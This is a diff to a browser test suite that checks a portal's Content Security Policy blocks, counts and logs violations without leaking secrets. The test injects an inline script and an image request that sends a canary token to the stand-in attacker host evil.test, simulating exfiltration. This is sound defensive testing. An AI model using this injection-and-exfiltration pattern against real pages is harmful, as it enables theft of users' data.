@@ -3,9 +3,13 @@ import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { pageStyle } from "../../../src/board/page/style/style.ts";
+import { send } from "../../harness/http.ts";
+import { freePort } from "../../harness/postgres.ts";
+import { until } from "../../harness/until.ts";
 import { portalTests } from "./harness.ts";
 
-const { open, visit, url, complaints } = portalTests();
+const metricsPort = await freePort();
+const { open, visit, url, complaints, server } = portalTests({ env: { METRICS_PORT: String(metricsPort) } });
 
 let elsewhere: Server;
 beforeAll(async () => {
@@ -43,6 +47,39 @@ describe("the portal in a browser", () => {
       return [window.ranInline, window.ranScript, document.baseURI.startsWith("https://evil.test")];
     })()`);
     expect(ran).toEqual([undefined, undefined, false]);
+    expect(complaints().length).toBeGreaterThan(0);
+  });
+
+  it("tells the service what was kept out, which counts it and logs nothing secret of it", async () => {
+    const counted = async () =>
+      (await send(metricsPort, "/metrics")).text.match(/^signalbox_policy_violations_total\{.*$/gmu) ?? [];
+    const logged = () =>
+      server()
+        .log.filter((line) => line.includes("kept something out"))
+        .map((line) => JSON.parse(line) as unknown);
+    const secret = "c4n4ryT0ken";
+    const page = await open("/components");
+    await page.waitForTimeout(300);
+    const [before, lines] = [await counted(), logged().length];
+    // The control: what the policy lets in is told by nobody.
+    await page.evaluate("document.body.append(Object.assign(new Image(), { src: '/portal/none.png' }))");
+    await page.waitForTimeout(300);
+    expect([await counted(), logged().length]).toEqual([before, lines]);
+    await page.evaluate(`(() => {
+      history.replaceState(null, "", "/portal/components?q=${secret}#${secret}");
+      const script = document.createElement("script");
+      script.textContent = "window.taken = '${secret}'";
+      document.body.append(script);
+      document.body.append(Object.assign(new Image(), { src: "https://evil.test/${secret}?${secret}#${secret}" }));
+    })()`);
+    await until(() => logged().length >= lines + 2, 10_000);
+    const told = { level: "warn", disposition: "enforce", document: "portal" };
+    expect(logged().slice(lines)).toMatchObject([
+      { ...told, directive: "script-src-elem", blocked: "inline" },
+      { ...told, directive: "img-src", blocked: "https://evil.test" },
+    ]);
+    expect((await counted()).join()).toMatch(/script-src-elem.*img-src|img-src.*script-src-elem/su);
+    expect(`${server().log.join("")}${(await counted()).join()}`).not.toContain(secret);
     expect(complaints().length).toBeGreaterThan(0);
   });
 
